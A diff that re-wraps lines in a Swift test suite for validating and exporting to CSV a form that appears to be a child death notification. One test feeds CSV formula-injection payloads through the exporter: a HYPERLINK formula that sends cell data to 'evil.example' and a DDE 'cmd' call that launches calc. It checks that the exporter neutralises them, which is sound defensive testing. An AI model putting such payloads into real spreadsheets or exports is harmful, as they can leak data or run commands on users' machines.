@@ -12,7 +12,8 @@ enum SampleForm {
             FormSection(
                 id: "one", title: "One",
                 fields: [
-                    FormField(id: "name", label: "Name", type: .text, required: true, maxLength: 10, errorName: "the name"),
+                    FormField(
+                        id: "name", label: "Name", type: .text, required: true, maxLength: 10, errorName: "the name"),
                     FormField(id: "notes", label: "Notes", type: .longText),
                     FormField(
                         id: "date-of-death", label: "Date of death", type: .date, required: true, notAfterToday: true,
@@ -21,7 +22,9 @@ enum SampleForm {
                     FormField(id: "weight", label: "Weight", type: .number, minimum: 0.5, maximum: 200),
                     FormField(
                         id: "place", label: "Place", type: .choice, required: true,
-                        options: [FieldOption(value: "home", label: "Home"), FieldOption(value: "other", label: "Other")]),
+                        options: [
+                            FieldOption(value: "home", label: "Home"), FieldOption(value: "other", label: "Other"),
+                        ]),
                     FormField(
                         id: "place-details", label: "Describe the place", type: .text, required: true,
                         condition: FieldCondition(field: "place", oneOf: ["other"])),
@@ -109,7 +112,10 @@ struct FormValidationTests {
         #expect(errors(post).map(\.message) == ["Date of death must be today or in the past"])
         var iso = SampleForm.post
         iso["date-of-death"] = ["14/11/2026"]
-        #expect(errors(iso) == [FieldError(path: "date-of-death", label: "Date of death", message: "Date of death must be a real date")])
+        #expect(
+            errors(iso) == [
+                FieldError(path: "date-of-death", label: "Date of death", message: "Date of death must be a real date")
+            ])
         iso["date-of-death"] = ["2026-11-20"]
         #expect(errors(iso).isEmpty)
     }
@@ -122,13 +128,15 @@ struct FormValidationTests {
         post["name"] = ["Samantha Jones"]
         #expect(
             errors(post).map(\.message) == [
-                "Name must be 10 characters or fewer", "When found must be a real date and time, for example 2026-11-14T02:10",
+                "Name must be 10 characters or fewer",
+                "When found must be a real date and time, for example 2026-11-14T02:10",
                 "Weight must be a number",
             ])
         post["name"] = ["Sam"]
         post["found"] = ["2026-11-21T00:05"]
         post["weight"] = ["0.2"]
-        #expect(errors(post).map(\.message) == ["When found must be today or in the past", "Weight must be 0.5 or more"])
+        #expect(
+            errors(post).map(\.message) == ["When found must be today or in the past", "Weight must be 0.5 or more"])
         post["found"] = nil
         post["weight"] = ["1,200"]
         #expect(errors(post).map(\.message) == ["Weight must be 200 or less"])
@@ -167,10 +175,14 @@ struct FormValidationTests {
         post["people[1].known"] = [""]
         let answers = try #require(form.validate(post: post, today: today).answers)
         #expect(
-            answers["people"] == .groups([
-                ["role": .text("GP")],
-                ["role": .text("Health visitor"), "known": .yesNo(.yes), "since": .date(CalendarDate("2025-01-03"))],
-            ]))
+            answers["people"]
+                == .groups([
+                    ["role": .text("GP")],
+                    [
+                        "role": .text("Health visitor"), "known": .yesNo(.yes),
+                        "since": .date(CalendarDate("2025-01-03")),
+                    ],
+                ]))
         post["people[2].since"] = nil
         post["people[3].known"] = ["no"]
         #expect(
@@ -201,7 +213,9 @@ struct FormValidationTests {
         let valid: FormAnswers = [
             "name": .text("Sam"), "date-of-death": .date(CalendarDate("2026-11-14")), "place": .choice("home"),
             "place-details": .text("hidden"), "supervised": .yesNo(.no),
-            "people": .groups([["role": .text("GP"), "known": .yesNo(.yes), "since": .date(CalendarDate("2024-02-29"))]]),
+            "people": .groups([
+                ["role": .text("GP"), "known": .yesNo(.yes), "since": .date(CalendarDate("2024-02-29"))]
+            ]),
         ]
         var expected = valid
         expected["place-details"] = nil
@@ -221,7 +235,8 @@ struct FormValidationTests {
     @Test("Answers written back as a post validate to the same answers")
     func postRoundTrip() throws {
         let answers: FormAnswers = [
-            "name": .text("Sam"), "notes": .text("Line one\nLine two"), "date-of-death": .date(CalendarDate("2026-11-14")),
+            "name": .text("Sam"), "notes": .text("Line one\nLine two"),
+            "date-of-death": .date(CalendarDate("2026-11-14")),
             "found": .text("2026-11-14T02:10"), "weight": .number(12), "place": .choice("other"),
             "place-details": .text("Shed"), "events": .multiple(["a", "c"]), "supervised": .yesNo(.yes),
             "people": .groups([["role": .text("GP")], ["role": .text("Nurse"), "known": .yesNo(.no)]]),
@@ -246,18 +261,24 @@ struct FormValidationTests {
         ])
         #expect(
             row == [
-                .text("Sam, Jo"), .text(""), .text("2026-11-14"), .text(""), .number(3.5), .text(""), .text(""), .text("a; c"),
+                .text("Sam, Jo"), .text(""), .text("2026-11-14"), .text(""), .number(3.5), .text(""), .text(""),
+                .text("a; c"),
                 .text("notKnown"), .text("GP; Nurse"), .text("; no"), .text("; "),
             ])
-        #expect(FormDefinition.csvLine([.text("a"), .text("b, c"), .text("say \"hi\"")]) == "a,\"b, c\",\"say \"\"hi\"\"\"")
+        #expect(
+            FormDefinition.csvLine([.text("a"), .text("b, c"), .text("say \"hi\"")]) == "a,\"b, c\",\"say \"\"hi\"\"\"")
     }
 
     @Test(
         "CSV: an answer that would start a spreadsheet formula is written after a single quote; a number answer stays a number",
         arguments: [
-            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""),
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""
+            ),
             ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-            ("\t=1+1", "'\t=1+1"), ("\r\n=1+1", "\"'\r\n=1+1\""), ("Shed, garden", "\"Shed, garden\""), ("O'Brien", "O'Brien"),
+            ("\t=1+1", "'\t=1+1"), ("\r\n=1+1", "\"'\r\n=1+1\""), ("Shed, garden", "\"Shed, garden\""),
+            ("O'Brien", "O'Brien"),
         ])
     func csvNeutralisesFormulas(typed: String, written: String) {
         let line = FormDefinition.csvLine(form.csvRow(["name": .text(typed), "weight": .number(-4)]))
@@ -265,7 +286,8 @@ struct FormValidationTests {
         #expect(line.contains(",-4,"), "a number answer is written as a number, never prefixed: \(line)")
     }
 
-    @Test("The shipped notification form refuses a date of death in the future and shows the NHS number only when known")
+    @Test(
+        "The shipped notification form refuses a date of death in the future and shows the NHS number only when known")
     func shippedNotification() throws {
         let form = try Shipped.load().forms.notification
         let result = form.validate(
@@ -273,7 +295,11 @@ struct FormValidationTests {
                 "date-of-death": ["2026-11-21"], "child-nhs-number-status": ["notCurrentlyAvailable"],
                 "child-nhs-number": ["123"],
             ], today: today)
-        #expect(result.errors.contains(FieldError(path: "date-of-death", label: "Date of death", message: "Date of death must be today or in the past")))
+        #expect(
+            result.errors.contains(
+                FieldError(
+                    path: "date-of-death", label: "Date of death", message: "Date of death must be today or in the past"
+                )))
         #expect(result.errors.contains { $0.path == "child-surname" && $0.message == "Enter the child's last name" })
         #expect(!result.errors.contains { $0.path == "child-nhs-number" })
     }
